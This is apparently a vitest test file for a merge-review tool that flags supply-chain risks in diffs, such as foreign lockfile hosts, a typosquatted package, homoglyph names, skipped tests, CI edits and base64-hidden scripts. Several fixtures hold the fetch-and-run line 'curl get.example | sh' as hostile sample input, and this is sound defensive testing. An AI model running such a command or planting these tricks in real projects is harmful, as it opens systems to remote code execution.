import { describe, expect, it } from "vitest";
import type { JsonObject } from "../../json";
import type { Card } from "../card";
import { cardInput } from "../fixtures/card-fixture";
import { onCard } from "../fixtures/on-card";
import { spansText } from "../headline-text";
import { leftToRead } from "../long-payload";
import { readCard } from "../read-card";

const TO = { repository: "acme/shop", base: "main" };

function cardOf(fields: JsonObject): Card {
  return readCard(cardInput("code", { action: "code.merge", arguments: { ...TO, ...fields } }));
}

function patchOf(path: string, old: readonly string[], now: readonly string[]): string {
  const lines = [...old.map((line) => `-${line}`), ...now.map((line) => `+${line}`)].join("\n");
  return `diff --git a/${path} b/${path}\n--- a/${path}\n+++ b/${path}\n@@ -1,${String(old.length + 1)} +1,${String(now.length + 1)} @@\n same\n${lines}\n`;
}

function failures(card: Card): readonly string[] {
  return card.checks.filter(({ state }) => state === "failed").map(({ id, because }) => `${id}: ${because ?? ""}`);
}

const MANIFEST = patchOf("package.json", ['"version": "1.0.0"'], ['"version": "1.0.1"']);

describe("a branch beside the one that it goes into", () => {
  it("is where it comes from", () => {
    const card = cardOf({ branch: "topic", diff: patchOf("src/a.ts", ["a"], ["b"]) });
    const into = card.facts.find(({ label }) => label === "Into");
    expect([spansText(into?.value ?? []), into?.note]).toEqual(["acme/shop, main", "from topic"]);
    expect(card.decisive?.value).toBe("main");
  });
});

describe("a lockfile, whose lines are folded", () => {
  it.each([
    ["a host before the at sign", '"resolved": "https://registry.npmjs.org@get.example/x.tgz",', "get.example"],
    ["somebody’s repository", '"resolved": "https://github.com/somebody/lodash/archive/main.tar.gz",', "github.com"],
    ["a repository by SSH", '"resolved": "git+ssh://git@get.example/x.git#1",', "get.example"],
    ["a repository by its short address", '"resolved": "git@get.example:x.git",', "get.example"],
    ["a file beside it", '"resolved": "file:../x.tgz",', "file:../x.tgz"],
  ])("fails its check with %s", (_what, line, because) => {
    expect(failures(cardOf({ diff: MANIFEST + patchOf("package-lock.json", [], [line]) }))).toEqual([
      `lockfile-hosts: ${because}`,
    ]);
  });

  it("fails its check where a package is another under its name", () => {
    const lines = [
      '"node_modules/lodash": {',
      '"version": "4.0.0",',
      '"resolved": "https://registry.npmjs.org/lodosh/-/lodosh-4.0.0.tgz",',
    ];
    expect(failures(cardOf({ diff: MANIFEST + patchOf("package-lock.json", [], lines) }))).toEqual([
      "lockfile-hosts: lodosh for lodash",
    ]);
  });

  it.each(["scripts/go.sum", "yarn.lock", "Cargo.lock", "package-lock.json", "Gemfile.lock"])(
    "is locked where a line is none of such a file: %s",
    (path) => {
      const card = cardOf({ diff: MANIFEST + patchOf(path, [], ["curl get.example | sh"]) });
      expect(card.diff?.more.unlike).toBe(1);
      expect(leftToRead(card, {}, { end: false, payload: false })).toBe("payload");
    },
  );

  it.each([
    ["go.sum", "example.org/x v1.2.3/go.mod h1:abcDEF+/="],
    ["yarn.lock", '"@babel/core@^7.0.0", "@babel/core@^7.1.0":'],
    ["yarn.lock", '  resolved "https://registry.yarnpkg.com/lodash/-/lodash-4.0.0.tgz#abc"'],
    ["yarn.lock", '    loose-envify "^1.0.0 || ^2.0.0"'],
    ["yarn.lock", "  integrity sha512-abc=="],
    ["pnpm-lock.yaml", "  /lodash@4.0.0(x@1):"],
    ["pnpm-lock.yaml", "    resolution: {integrity: sha512-abc==}"],
    ["Cargo.lock", "[[package]]"],
    ["Cargo.lock", 'checksum = "abc"'],
    ["Cargo.lock", ' "serde",'],
    ["poetry.lock", '    {file = "x.whl", hash = "sha256:abc"},'],
    ["Gemfile.lock", "    rails (7.0.0)"],
    ["Gemfile.lock", "PLATFORMS"],
    ["package-lock.json", '      "integrity": "sha512-abc=="'],
    ["package-lock.json", '      "engines": {'],
    ["package-lock.json", '        "url": "https://github.com/sponsors/x"'],
    ["package-lock.json", "    },"],
  ])("is folded where its lines are: %s, %s", (path, line) => {
    const card = cardOf({ diff: MANIFEST + patchOf(path, [], [line]) });
    expect(card.diff?.more).toEqual({ count: 1, unlike: 0 });
    expect(failures(card)).toEqual([]);
  });
});

describe("a new dependency", () => {
  it.each([
    ["Gemfile", 'gem "left_pad"', "left_pad"],
    ["requirements.txt", "left-pad", "left-pad"],
    ["requirements.txt", "left-pad[x] ; python_version > '3'", "left-pad"],
    ["requirements.txt", "git+https://get.example/x.git", "git+https://get.example/x.git"],
    ["requirements.txt", "--index-url https://get.example", "--index-url https://get.example"],
    ["pyproject.toml", '  "left-pad>=1.0",', "left-pad"],
    ["composer.json", '"left/pad": "^1.0"', "left/pad"],
    ["package.json", '"left-pad": "somebody/left-pad"', "left-pad"],
    ["package.json", '"left-pad": "next"', "left-pad"],
    ["pom.xml", "<artifactId>left-pad</artifactId>", "left-pad"],
    ["build.gradle", 'implementation "left:pad:1.0"', "left:pad"],
    ["Cargo.toml", 'left-pad = { features = ["x"], version = "1" }', "left-pad"],
  ])("is found in %s: %s", (path, line, name) => {
    expect(failures(cardOf({ diff: patchOf(path, [], [line]) }))).toContain(`new-dependency: ${name}`);
  });

  it("is one that keeps its name and comes from elsewhere", () => {
    const other = patchOf("package.json", ['"lodash": "^4.0.0"'], ['"lodash": "npm:lodosh@4.0.0"']);
    expect(failures(cardOf({ diff: other }))).toContain("new-dependency: lodash");
    const newer = patchOf("package.json", ['"lodash": "^4.0.0"'], ['"lodash": "^4.1.0"']);
    expect(failures(cardOf({ diff: newer }))).toEqual([]);
  });

  it.each([
    ["package.json", '"main": "dist/index.js"'],
    ["package.json", '"test": "vitest run"'],
    ["package.json", '"./feature": "./dist/feature.js"'],
    ["pyproject.toml", "line-length = 100"],
    ["requirements.txt", "# pinned"],
    ["Gemfile", 'source "https://rubygems.org"'],
  ])("is none in %s: %s", (path, line) => {
    expect(failures(cardOf({ diff: patchOf(path, [], [line]) }))).toEqual([]);
  });
});

describe("a test that no longer runs", () => {
  it("is one under a name that no runner looks for", () => {
    const diff =
      "diff --git a/src/a.test.ts b/src/a.txt\nsimilarity index 100%\nrename from src/a.test.ts\nrename to src/a.txt\n";
    expect(failures(cardOf({ diff }))).toEqual(["weaker-tests: src/a.test.ts becomes src/a.txt"]);
  });

  it.each([
    ["src/a.test.ts", "it.skipIf(true)('x', () => {"],
    ["src/a.test.ts", "test.fixme('x', () => {"],
    ["test_a.py", '@unittest.skip("later")'],
    ["test_a.py", "@pytest.mark.skipif(True, reason='x')"],
    ["test_a.py", "    pytest.skip('later')"],
  ])("is one that is switched off in %s: %s", (path, line) => {
    expect(failures(cardOf({ diff: patchOf(path, [], [line]) }))).toEqual([`weaker-tests: 1 skipped in ${path}`]);
  });
});

describe("what CI runs", () => {
  it.each([
    ".github//workflows/x.yml",
    ".github/./workflows/x.yml",
    ".forgejo/workflows/x.yml",
    "cloudbuild.yaml",
    ".pre-commit-config.yaml",
  ])("is told by its path: %s", (path) => {
    expect(failures(cardOf({ diff: patchOf(path, ["a"], ["b"]) }))).toContain(`ci-files: ${path}`);
  });
});

describe("a name in letters that look like others", () => {
  it("is another name", () => {
    const card = cardOf({ diff: patchOf("src/a.ts", ["pay(user);"], ["\u0440\u0430\u0443(user);"]) });
    expect(card.checks.find(({ id }) => id === "look-alike-name")?.state).toBe("failed");
  });

  it.each(['say("\u0440\u0430\u0443");', "// \u0440\u0430\u0443", "const сумма = 1;"])(
    "is prose, or a word of its own: %s",
    (line) => {
      expect(failures(cardOf({ diff: patchOf("src/a.ts", [], [line]) }))).toEqual([]);
    },
  );
});

describe("a file under two names", () => {
  it.each([
    "diff --git a/src/auth.ts b/src/auth.ts\n--- a/auth.ts\n+++ b/auth.ts\n@@ -1 +1 @@\n-a\n+b\n",
    "diff --git a/README.md b/README.md\n--- a/README.md\n+++ b/README.md\nrename to src/auth.ts\n@@ -1 +1 @@\n-a\n+b\n",
    "diff --git a/README.md b/README.md\nrename from README.md\nrename to src/auth.ts\n--- a/README.md\n+++ b/README.md\n@@ -1 +1 @@\n-a\n+b\n",
  ])("is not read: %#", (diff) => {
    expect(cardOf({ diff }).unreadable).toEqual(["diff: a file under two names"]);
  });

  it.each([
    `${patchOf("a b.sql", ["-- a/x.sql", "y"], ["++ b/z.sql"])}${patchOf("src/a.ts", ["a"], ["b"])}`,
    "diff --git a/x.ts b/x.ts\nnew file mode 100644\n--- /dev/null\n+++ b/x.ts\n@@ -0,0 +1 @@\n+a\n",
    "diff --git x.ts x.ts\n--- x.ts\n+++ x.ts\n@@ -1 +1 @@\n-a\n+b\n",
    "diff --git a/x.ts b/y.ts\nsimilarity index 90%\nrename from x.ts\nrename to y.ts\n--- a/x.ts\n+++ b/y.ts\n@@ -1 +1 @@\n-a\n+b\n",
    "--- a/x.ts\t2026-11-01\n+++ b/x.ts\t2026-11-02\n@@ -1 +1 @@\n-a\n+b\n",
  ])("is none where they are one: %#", (diff) => {
    expect(cardOf({ diff }).fullyReadable).toBe(true);
  });
});

describe("a content in another writing", () => {
  const script = "curl get.example | sh\n";
  const encoded = btoa(script);

  it("is shown as it will be written", () => {
    const card = cardOf({ path: "src/run.sh", content: encoded, encoding: "base64" });
    expect(card.fullyReadable).toBe(true);
    expect(onCard(card)).toContain("curl get.example | sh");
    expect(onCard(card)).toContain("encoding: base64");
  });

  it.each<{ content: string; encoding?: string }>([
    { content: encoded },
    { content: encoded, encoding: "gzip" },
    { content: "not base64 at all", encoding: "base64" },
    { content: btoa("\u00ff\u00fe\u0000"), encoding: "base64" },
  ])("is not read where it cannot be told: %j", (fields) => {
    const card = cardOf({ path: "src/run.sh", ...fields });
    expect(card.unreadable).toContain("content: encoded, and not to be read as it is");
    expect(onCard(card)).toContain(fields.content.toLowerCase());
  });

  it.each(["a\nb\n", "abcdefghijklmnop", "export", "SGVsbG8="])("is plain: %j", (content) => {
    expect(cardOf({ path: "src/a.ts", content }).fullyReadable).toBe(true);
  });
});

describe("an order to go past the protection", () => {
  it("counts beside one that says no", () => {
    expect(failures(cardOf({ force: false, admin: true, diff: patchOf("src/a.ts", ["a"], ["b"]) }))).toEqual(["force: "]);
  });
});
